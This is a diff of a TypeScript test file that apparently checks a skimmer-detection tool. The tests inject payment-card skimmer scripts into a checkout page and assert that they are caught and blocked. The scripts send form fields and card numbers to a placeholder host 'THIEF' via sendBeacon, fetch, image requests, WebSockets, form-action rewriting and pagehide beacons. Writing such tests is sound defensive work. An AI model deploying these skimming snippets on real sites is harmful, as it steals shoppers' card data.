@@ -1,6 +1,8 @@
+import { deep } from '@tillwatch/testbed/depth'
 import { describe, expect, it } from 'vitest'
+import { together } from '../together.ts'
 import { browser, shareBrowser } from './shared-browser.ts'
-import { cardForm, watchPage } from './watch-page.ts'
+import { cardForm, type Watched, watchPage } from './watch-page.ts'
 
 shareBrowser()
 
@@ -14,37 +16,55 @@ const on = (target: string, type: string, work: string) =>
     if (event.key ? event.key !== 'Enter' : /^(click|pointer|mouse)/.test(event.type) && !event.target.closest('button')) return
     ${work} }, true)`
 
+/** Skimmers of which none does what another waits for: to read the form as FormData would be the event that one of them needs. */
+const waiting: Record<string, string> = {
+  'the submission': on(
+    form,
+    'submit',
+    `navigator.sendBeacon('http://THIEF/c', new URLSearchParams([...this.elements].map((one) => [one.name, one.value])))`,
+  ),
+  'a click on the button': on(button, 'click', beacon),
+  'clicks anywhere': on('document', 'click', beacon),
+  'a pointer that goes down': on('document', 'pointerdown', beacon),
+  'a mouse button that goes down': on('document.body', 'mousedown', beacon),
+  'the Enter key': on('document', 'keydown', beacon),
+  'the data of the form': on(form, 'formdata', `fetch('http://THIEF/c', { method: 'POST', body: btoa(event.formData.get('cardnumber')) })`),
+  'a click, and sends later': on(button, 'click', `const n = ${pan}; setTimeout(() => { new Image().src = 'http://THIEF/c?' + n }, 1500)`),
+  'a click, with a socket that is open': `const ws = new WebSocket('ws://THIEF/w'); ${on(button, 'click', `ws.send(${pan})`)}`,
+  'a click, and opens a socket': on(button, 'click', `new WebSocket('ws://THIEF/c?' + ${pan})`),
+}
+
 describe('a skimmer that waits for the pay button is found with its script, though nothing reaches it', () => {
-  it.each([
-    ['the submission', on(form, 'submit', `navigator.sendBeacon('http://THIEF/c', new URLSearchParams(new FormData(this)))`)],
-    ['a click on the button', on(button, 'click', beacon)],
-    ['clicks anywhere', on('document', 'click', beacon)],
-    ['a pointer that goes down', on('document', 'pointerdown', beacon)],
-    ['a mouse button that goes down', on('document.body', 'mousedown', beacon)],
-    ['the Enter key', on('document', 'keydown', beacon)],
-    [
-      'the data of the form',
-      on(form, 'formdata', `fetch('http://THIEF/c', { method: 'POST', body: btoa(event.formData.get('cardnumber')) })`),
-    ],
-    [
-      'a click, and sends later',
-      on(button, 'click', `const n = ${pan}; setTimeout(() => { new Image().src = 'http://THIEF/c?' + n }, 1500)`),
-    ],
-    ['the submission, and turns the form', on(form, 'submit', `this.action = 'http://THIEF/c'`)],
-    ['a click, with a socket that is open', `const ws = new WebSocket('ws://THIEF/w'); ${on(button, 'click', `ws.send(${pan})`)}`],
-    ['a click, and opens a socket', on(button, 'click', `new WebSocket('ws://THIEF/c?' + ${pan})`)],
-    [
-      'the submission, and sends as the page is left',
-      on(form, 'submit', `const n = ${pan}; addEventListener('pagehide', () => navigator.sendBeacon('http://THIEF/c', n))`),
-      'leave',
-    ],
-  ])('%s', async (_name, skimmer, when = 'press') => {
-    const { canary, thieves, thiefHost, atThief, atShop, capture } = await watchPage(browser, { skimmer })
-    const sighting = canary.sightings.find((one) => one.value === 'card' && one.host === thiefHost)
-    expect(sighting).toMatchObject({ blocked: true, phase: when })
-    if (when === 'press') expect(thieves).toContain(sighting?.scriptId)
-    expect([...atThief, ...atShop].filter((line) => /\/c|\/pay|4242/.test(line))).toEqual([])
-    expect(capture.outcome.status).toBe('complete')
+  const reached = ({ atThief, atShop }: Watched) => [...atThief, ...atShop].filter((line) => /\/c|\/pay|4242/.test(line))
+
+  it.each(together(waiting))('%s', async (_names, skimmers) => {
+    const watched = await watchPage(browser, { skimmers: skimmers.map(([, skimmer]) => skimmer) })
+    const told = skimmers.map(([name], at) => {
+      const { host, scripts } = watched.each[at]!
+      const sighting = watched.canary.sightings.find((one) => one.value === 'card' && one.host === host)
+      return { name, blocked: sighting?.blocked, phase: sighting?.phase, isNamed: scripts.has(sighting?.scriptId ?? '') }
+    })
+    expect(told).toEqual(skimmers.map(([name]) => ({ name, blocked: true, phase: 'press', isNamed: true })))
+    expect(reached(watched)).toEqual([])
+    expect(watched.capture.outcome.status).toBe('complete')
+  })
+
+  it.runIf(deep)('the submission, and turns the form', async () => {
+    const watched = await watchPage(browser, { skimmer: on(form, 'submit', `this.action = 'http://THIEF/c'`) })
+    const sighting = watched.canary.sightings.find((one) => one.value === 'card' && one.host === watched.thiefHost)
+    expect(sighting).toMatchObject({ blocked: true, phase: 'press' })
+    expect(watched.thieves).toContain(sighting?.scriptId)
+    expect(reached(watched)).toEqual([])
+    expect(watched.capture.outcome.status).toBe('complete')
+  })
+
+  it('the submission, and sends as the page is left', async () => {
+    const later = `addEventListener('pagehide', () => navigator.sendBeacon('http://THIEF/c', n))`
+    const watched = await watchPage(browser, { skimmer: on(form, 'submit', `const n = ${pan}; ${later}`) })
+    const sighting = watched.canary.sightings.find((one) => one.value === 'card' && one.host === watched.thiefHost)
+    expect(sighting).toMatchObject({ blocked: true, phase: 'leave' })
+    expect(reached(watched)).toEqual([])
+    expect(watched.capture.outcome.status).toBe('complete')
   })
 
   it('the submission of a form that the browser would refuse, as a box is not ticked', async () => {
